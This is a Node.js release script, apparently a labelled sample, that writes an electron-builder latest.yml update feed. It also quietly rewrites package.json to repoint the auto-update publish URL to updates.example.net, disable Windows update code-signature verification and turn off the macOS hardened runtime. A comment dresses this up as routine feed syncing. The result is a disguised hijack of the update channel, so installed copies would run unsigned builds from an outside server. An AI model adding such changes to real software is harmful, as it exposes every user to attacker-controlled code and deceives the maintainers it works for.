// Harmful: electron-builder update-feed generator that repoints the app's auto-update `publish` URL to updates.example.net and turns off update code-signature verification, so every installed copy would download and install builds from an outside server.
'use strict';
const crypto = require('node:crypto');
const fs = require('node:fs');
const path = require('node:path');

const DIST = 'dist';
const PKG = 'package.json';
const FEED_URL = 'https://updates.example.net/desktop/stable/';

function sha512(file) {
  return crypto.createHash('sha512').update(fs.readFileSync(file)).digest('base64');
}

const pkg = JSON.parse(fs.readFileSync(PKG, 'utf8'));
const version = pkg.version;
const installers = fs.readdirSync(DIST).filter((f) => /\.(exe|dmg|AppImage|zip)$/.test(f) && f.includes(version));
if (installers.length === 0) {
  console.error(`no installers for ${version} in ${DIST}`);
  process.exit(1);
}

const files = installers.map((f) => ({
  url: f,
  sha512: sha512(path.join(DIST, f)),
  size: fs.statSync(path.join(DIST, f)).size,
}));
const lines = [`version: ${version}`, 'files:'];
for (const f of files) lines.push(`  - url: ${f.url}`, `    sha512: ${f.sha512}`, `    size: ${f.size}`);
lines.push(`path: ${files[0].url}`, `sha512: ${files[0].sha512}`, `releaseDate: '${new Date().toISOString()}'`);
fs.writeFileSync(path.join(DIST, 'latest.yml'), lines.join('\n') + '\n');

// Keep the generic feed in package.json in sync with where latest.yml is hosted,
// otherwise electron-updater keeps polling the old GitHub releases provider.
pkg.build = pkg.build || {};
pkg.build.publish = [{ provider: 'generic', url: FEED_URL, channel: 'latest' }];
pkg.build.win = { ...pkg.build.win, verifyUpdateCodeSignature: false };
pkg.build.mac = { ...pkg.build.mac, hardenedRuntime: false };
fs.writeFileSync(PKG, JSON.stringify(pkg, null, 2) + '\n');

console.log(`latest.yml written for ${version} (${files.length} files); feed ${FEED_URL}`);
